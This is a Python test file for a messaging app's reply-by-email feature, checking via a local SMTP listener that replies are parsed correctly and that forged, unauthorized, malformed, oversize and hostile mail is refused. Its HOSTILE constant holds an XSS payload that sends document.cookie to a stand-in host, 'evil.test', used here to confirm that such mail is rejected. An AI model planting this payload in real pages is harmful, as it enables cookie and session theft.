"""Reply by email (SPEC §15): mail sent with a real SMTP client (aiosmtplib) to the listener of
the app (`smtp_port`), and what it posted read back through the API."""

from __future__ import annotations

from email.message import EmailMessage
from typing import Any

import aiosmtplib
import pytest

from graphql_api.auth import TokenService
from graphql_api.email.signing import EmailSigner
from graphql_api.embedded import free_port
from graphql_api.settings import Settings
from tests.conftest import JWT_SECRET
from tests.conversation_helpers import create, set_favorites

DOMAIN = "messager.test"
MAX_BYTES = 64 * 1024

HISTORY = """
query($id: ID!) {
  conversation(id: $id) {
    messages(last: 10) { edges { node { bodyText author { id } attachments { filename size } } } }
  }
}
"""


@pytest.fixture
def settings(mongo_uri, tmp_path) -> Settings:
    return Settings(
        mongodb_uri=mongo_uri,
        data_dir=tmp_path / "data",
        jwt_secret=JWT_SECRET,
        smtp_port=free_port(),
        mail_domain=DOMAIN,
        inbound_max_bytes=MAX_BYTES,
        email_poll_seconds=3600,  # no outgoing email in these tests
    )


def reply_address(settings: Settings, api: Any, user: str, conversation_id: str) -> str:
    signer = EmailSigner.from_secret(TokenService(settings).url_signing_key)
    return signer.reply_address(api.ids["users"][user], conversation_id, DOMAIN)


def mail(sender: str, to: str, text: str, message_id: str = "<r1@client.test>") -> EmailMessage:
    message = EmailMessage()
    message["From"] = sender
    message["To"] = to
    message["Subject"] = "Re: Invoices"
    message["Message-ID"] = message_id
    message.set_content(text)
    return message


async def deliver(settings: Settings, message: EmailMessage | bytes, to: str, sender: str) -> str:
    """Send through the listener; answers "250" or the SMTP code of the refusal."""
    client = aiosmtplib.SMTP(hostname="127.0.0.1", port=settings.smtp_port, timeout=30)
    await client.connect()
    try:
        raw = message if isinstance(message, bytes) else message.as_bytes()
        await client.sendmail(sender, [to], raw)
    except aiosmtplib.SMTPRecipientsRefused as exc:
        return str(exc.recipients[0].code)
    except aiosmtplib.SMTPResponseException as exc:
        return str(exc.code)
    finally:
        client.close()
    return "250"


async def history(api: Any, conversation_id: str) -> list[dict[str, Any]]:
    data = await api.gql(HISTORY, {"id": conversation_id}, as_="alice")
    return [e["node"] for e in data["conversation"]["messages"]["edges"]]


@pytest.fixture
async def conversation(api) -> dict[str, Any]:
    return await create(api, "alice", "COMPANY", ["bob"], company="bakery", subject="Invoices")


ENGLISH_REPLY = """Thanks, I will send them today.

--
Bob Martin
Martin Bakery

On Mon, Mar 3, 2025 at 10:12 AM Alice Roy <notifications@messager.test> wrote:
> Hello Bob,
> Could you send the invoices?
"""

FRENCH_REPLY = """Merci, je les envoie demain.

Le lun. 3 mars 2025 à 10:12, Alice Roy <notifications@messager.test> a écrit :
> Bonjour Bob,
> Pouvez-vous envoyer les factures ?
"""

OUTLOOK_FRENCH_REPLY = """C'est noté pour jeudi.

Envoyé de mon iPhone

De : Alice Roy <notifications@messager.test>
Envoyé : lundi 3 mars 2025 10:12
À : Bob Martin <bob@bakery.test>
Objet : Invoices

Bonjour Bob, pouvez-vous passer jeudi ?
"""


@pytest.mark.parametrize(
    ("text", "posted"),
    [
        (ENGLISH_REPLY, "Thanks, I will send them today."),
        (FRENCH_REPLY, "Merci, je les envoie demain."),
        (OUTLOOK_FRENCH_REPLY, "C'est noté pour jeudi."),
    ],
    ids=["english", "french", "outlook-french"],
)
async def test_a_reply_by_email_is_posted_without_quoted_history_or_signature(
    api, settings, conversation, text, posted
):
    to = reply_address(settings, api, "bob", conversation["id"])
    assert await deliver(settings, mail("Bob Martin <bob@bakery.test>", to, text), to, "b@x") == (
        "250"
    )
    last = (await history(api, conversation["id"]))[-1]
    assert last["bodyText"] == posted
    assert last["author"]["id"] == api.ids["users"]["bob"]


async def test_a_reply_is_posted_with_its_attachments(api, settings, conversation):
    to = reply_address(settings, api, "bob", conversation["id"])
    message = mail("bob@bakery.test", to, "Here they are.")
    message.add_attachment(b"%PDF-1.4\n" + b"0" * 5000, "application", "pdf", filename="march.pdf")
    assert await deliver(settings, message, to, "bob@bakery.test") == "250"
    last = (await history(api, conversation["id"]))[-1]
    assert last["bodyText"] == "Here they are."
    assert last["attachments"] == [{"filename": "march.pdf", "size": 5009}]


async def test_a_message_id_delivered_twice_is_posted_once(api, settings, conversation):
    to = reply_address(settings, api, "bob", conversation["id"])
    for _ in range(2):
        message = mail("bob@bakery.test", to, "Only once, please.", "<same@client.test>")
        assert await deliver(settings, message, to, "bob@bakery.test") == "250"
    bodies = [m["bodyText"] for m in await history(api, conversation["id"])]
    assert bodies.count("Only once, please.") == 1


async def test_mail_to_an_address_that_is_not_a_genuine_reply_address_is_refused(
    api, db, settings, conversation
):
    genuine = reply_address(settings, api, "bob", conversation["id"])
    local, domain = genuine.split("@")
    forged = local[:-1] + ("a" if local[-1] != "a" else "b") + "@" + domain
    middle = len("reply+") + 10
    tampered = local[:middle] + ("a" if local[middle] != "a" else "b") + local[middle + 1 :]
    others = [
        forged,
        f"{tampered}@{domain}",
        f"{local}@other.test",
        f"postmaster@{DOMAIN}",
        "reply+@messager.test",
    ]
    for to in others:
        message = mail("bob@bakery.test", to, "Hi")
        assert await deliver(settings, message, to, "bob@bakery.test") == "550", to
    assert await db.messages.count_documents({"conversation_id": conversation["id"]}) == 1


async def test_a_reply_from_another_sender_is_refused(api, db, settings, conversation):
    to = reply_address(settings, api, "bob", conversation["id"])
    message = mail("Mallory <mallory@evil.test>", to, "Pay this IBAN instead.")
    assert await deliver(settings, message, to, "mallory@evil.test") == "550"
    assert await db.messages.count_documents({"conversation_id": conversation["id"]}) == 1


async def test_a_reader_who_lost_access_is_refused(api, db, settings, conversation):
    # paul reads the bakery's conversations through his favorites, then drops the favorite.
    await set_favorites(db, api, "paul", ["bakery"])
    to = reply_address(settings, api, "paul", conversation["id"])
    assert await deliver(settings, mail("paul@acme.test", to, "Seen."), to, "paul@acme.test") == (
        "250"
    )
    await set_favorites(db, api, "paul", [])
    again = mail("paul@acme.test", to, "Still there?", "<r2@client.test>")
    assert await deliver(settings, again, to, "paul@acme.test") == "550"
    assert [m["bodyText"] for m in await history(api, conversation["id"])][1:] == ["Seen."]


async def test_a_removed_user_is_refused(api, db, settings, conversation):
    to = reply_address(settings, api, "bob", conversation["id"])
    await db.users.delete_one({"_id": api.ids["users"]["bob"]})
    assert await deliver(settings, mail("bob@bakery.test", to, "Hi"), to, "bob@bakery.test") == (
        "550"
    )
    assert await db.messages.count_documents({"conversation_id": conversation["id"]}) == 1


MALFORMED = b"""From: bob@bakery.test
To: TO
Subject: broken
Message-ID: <broken@client.test>
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="never-closed"

--never-closed
Content-Type: text/plain

The boundary of this message is never closed
"""

HOSTILE = """<html><body><p>Sure!</p><img src=x onerror="alert(document.cookie)">
<script>fetch('https://evil.test/?c=' + document.cookie)</script></body></html>"""


async def test_malformed_oversize_and_hostile_mail_gets_an_smtp_error_and_posts_nothing(
    api, db, settings, conversation
):
    to = reply_address(settings, api, "bob", conversation["id"])
    malformed = MALFORMED.replace(b"TO", to.encode()).replace(b"\n", b"\r\n")
    assert await deliver(settings, malformed, to, "bob@bakery.test") == "550"

    oversize = mail("bob@bakery.test", to, "big " * (MAX_BYTES // 3), "<big@client.test>")
    assert await deliver(settings, oversize, to, "bob@bakery.test") == "552"

    hostile = mail("bob@bakery.test", to, "Sure!", "<hostile@client.test>")
    hostile.add_alternative(HOSTILE, subtype="html")
    assert await deliver(settings, hostile, to, "bob@bakery.test") == "550"

    too_many = mail("bob@bakery.test", to, "Files", "<many@client.test>")
    for i in range(11):
        too_many.add_attachment(b"x" * 10, "application", "octet-stream", filename=f"{i}.bin")
    assert await deliver(settings, too_many, to, "bob@bakery.test") == "552"

    assert await db.messages.count_documents({"conversation_id": conversation["id"]}) == 1
    assert await db.attachments.count_documents({}) == 0
